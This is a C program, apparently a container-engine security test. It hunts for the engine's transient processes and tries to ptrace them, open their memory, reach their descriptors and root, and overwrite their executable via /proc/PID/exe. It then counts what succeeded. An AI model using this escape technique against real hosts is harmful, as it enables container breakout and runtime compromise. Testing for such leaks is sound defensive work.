/* SPDX-License-Identifier: Apache-2.0 */
/*
 * usage: hunter SECONDS NAME
 * For so long looks for every new process of its pid namespace and tries to get
 * at whatever is not NAME yet: the engine's own, on its way to become NAME. Then
 * prints what it got.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static long seen, foreign, traced, stronger, memory, rooted, descriptors, held,
	opened, overwritten;
static const char *expected;

static int is_foreign(const char *pid)
{
	char path[300], name[32] = "";
	int fd, n;

	snprintf(path, sizeof(path), "/proc/%s/comm", pid);
	fd = open(path, O_RDONLY);
	if (fd < 0)
		return 0;
	n = read(fd, name, sizeof(name) - 1);
	close(fd);
	if (n <= 0)
		return 0;
	name[strcspn(name, "\n")] = 0;
	return strcmp(name, expected) != 0;
}

/* The permitted capabilities that /proc/PID/status tells of. */
static unsigned long long permitted(const char *pid)
{
	unsigned long long set = 0;
	char path[300], line[256];
	FILE *status;

	snprintf(path, sizeof(path), "/proc/%s/status", pid);
	status = fopen(path, "r");
	while (status && fgets(line, sizeof(line), status))
		sscanf(line, "CapPrm: %llx", &set);
	if (status)
		fclose(status);
	return set;
}

/* Files and directories; a socket or a pipe leads nowhere. */
static int is_file(int fd)
{
	struct stat st;

	return fstat(fd, &st) == 0 &&
	       (S_ISREG(st.st_mode) || S_ISDIR(st.st_mode));
}

static void reach(const char *pid)
{
	struct stat own, other;
	char path[300];
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/root", pid);
	if (stat(path, &other) == 0 && stat("/", &own) == 0 &&
	    (own.st_dev != other.st_dev || own.st_ino != other.st_ino))
		rooted++;
	for (int i = 3; i < 12; i++) {
		snprintf(path, sizeof(path), "/proc/%s/fd/%d", pid, i);
		fd = open(path, O_PATH);
		if (fd >= 0 && is_file(fd) && is_foreign(pid))
			descriptors++;
		close(fd);
	}
	snprintf(path, sizeof(path), "/proc/%s/mem", pid);
	fd = open(path, O_RDWR);
	if (fd >= 0 && is_foreign(pid))
		memory++;
	close(fd);
	if (ptrace(PTRACE_SEIZE, atoi(pid), 0, 0) == 0) {
		if (is_foreign(pid))
			traced++;
		if (permitted(pid) & ~permitted("self"))
			stronger++;
		ptrace(PTRACE_INTERRUPT, atoi(pid), 0, 0);
		waitpid(atoi(pid), 0, __WALL);
		ptrace(PTRACE_DETACH, atoi(pid), 0, 0);
	}
}

/* Keeps the program, waits until nobody runs it, and writes over it. */
static void overwrite(const char *pid)
{
	char path[300];
	int fd, writer, i;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0 || !is_foreign(pid)) {
		close(fd);
		return;
	}
	held++;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	for (i = 0; i < 20000; i++) {
		writer = open(path, O_WRONLY | O_CLOEXEC);
		if (writer >= 0 || errno != ETXTBSY)
			break;
	}
	if (writer >= 0) {
		opened++;
		if (write(writer, "#!/evil\n", 8) == 8)
			overwritten++;
		close(writer);
	}
	close(fd);
}

static void look(void)
{
	DIR *proc = opendir("/proc");
	struct dirent *entry;

	while ((entry = readdir(proc))) {
		int pid = atoi(entry->d_name);

		if (pid <= 1 || pid == getpid())
			continue;
		seen++;
		if (!is_foreign(entry->d_name))
			continue;
		foreign++;
		reach(entry->d_name);
		overwrite(entry->d_name);
	}
	closedir(proc);
}

int main(int argc, char **argv)
{
	time_t end = time(0) + atoi(argv[1]);

	expected = argv[argc - 1];
	printf("hunting\n");
	fflush(stdout);
	while (time(0) < end)
		look();
	printf("foreign %ld\ntraced %ld\nstronger %ld\nmemory %ld\nroot %ld\ndescriptors %ld\n"
	       "held %ld\nopened %ld\noverwritten %ld\n",
	       foreign, traced, stronger, memory, rooted, descriptors, held, opened,
	       overwritten);
	return seen ? 0 : 1;
}
